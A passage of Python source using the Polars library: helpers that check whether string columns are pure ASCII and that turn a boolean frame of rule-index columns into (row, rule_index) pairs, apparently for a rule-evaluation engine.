        return lambda column: True
    counts = frame.select(
        (
            pl.col(c).cast(pl.String).str.len_bytes().sum()
            - pl.col(c).cast(pl.String).str.len_chars().sum()
        ).alias(c)
        for c in columns
    ).row(0, named=True)
    return lambda column: counts[column] == 0


_NO_PAIRS = pl.DataFrame(schema={"row": pl.UInt32, "rule_index": pl.UInt32})


def _true_pairs(result: pl.DataFrame, rows: pl.Series | None) -> pl.DataFrame:
    """(row, rule_index) for every true cell of a frame whose columns are rule indexes."""
    if rows is None:
        indexed = result.with_row_index("row")
    else:
        indexed = result.with_columns(rows.cast(pl.UInt32).alias("row"))
    rule_columns = [c for c in result.columns]
    any_true = indexed.filter(pl.any_horizontal(rule_columns))
    if any_true.height == 0:
        return pl.DataFrame(schema={"row": pl.UInt32, "rule_index": pl.UInt32})
    return (
        any_true.unpivot(index="row", on=rule_columns, variable_name="rule_index")
        .filter(pl.col("value"))
        .select("row", pl.col("rule_index").cast(pl.UInt32))
    )
